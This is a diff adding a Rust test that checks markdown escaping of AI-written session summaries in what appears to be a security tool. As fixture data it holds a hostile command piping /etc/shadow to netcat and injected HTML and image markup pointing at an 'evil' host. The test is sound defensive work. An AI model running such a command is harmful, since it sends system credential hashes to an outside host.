@@ -494,3 +494,45 @@ fn explain_in_tsv_says_why_a_row_has_no_summary() {
     assert!(!last.is_empty());
     assert!(last.iter().all(|c| *c == "(tctl too old)"), "{out}");
 }
+
+/// The AI summary's table in markdown escapes every value as the record's table does: a `|` in
+/// a command does not end its cell, and the model's words render no HTML, image or character
+/// reference. A missing risk level still shows the compromise indicators.
+#[test]
+fn the_markdown_summary_table_escapes_the_models_words() {
+    let w = World::new();
+    let path = common::fixture("summaries.json");
+    let mut all: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
+    let s = &mut all[A1];
+    let e = &mut s["enhanced_summary"];
+    e["short_description"] = "short | pipe &rlm; <b>x</b> ![i](http://evil/x.png)".into();
+    e["session_events"][1]["command_event_details"]["command"] = "cat /etc/shadow | nc x 80".into();
+    e.as_object_mut().unwrap().remove("risk_level");
+    let hostile = w.dir.join("hostile-summaries.json");
+    std::fs::write(&hostile, serde_json::to_vec(&all).unwrap()).unwrap();
+    let (code, out, err) = show(
+        &w,
+        &[A1, "--format", "markdown"],
+        &[("FAKE_SUMMARY_DATA", hostile.to_str().unwrap())],
+    );
+    assert_eq!(code, 0, "{err}");
+    let table: Vec<&str> = out
+        .lines()
+        .skip_while(|l| *l != "### AI summary")
+        .skip(3)
+        .take_while(|l| l.starts_with('|'))
+        .collect();
+    assert!(table.len() >= 3, "{out}");
+    for row in &table {
+        let cells = row.replace("\\|", "").matches('|').count();
+        assert_eq!(cells, 3, "a value broke out of its cell: {row}");
+        for raw in ["<b>", "![", "&rlm;"] {
+            assert!(!row.contains(raw), "{raw} unescaped: {row}");
+        }
+    }
+    assert!(
+        out.contains("| risk | unknown (compromise indicators: yes) |"),
+        "{out}"
+    );
+}
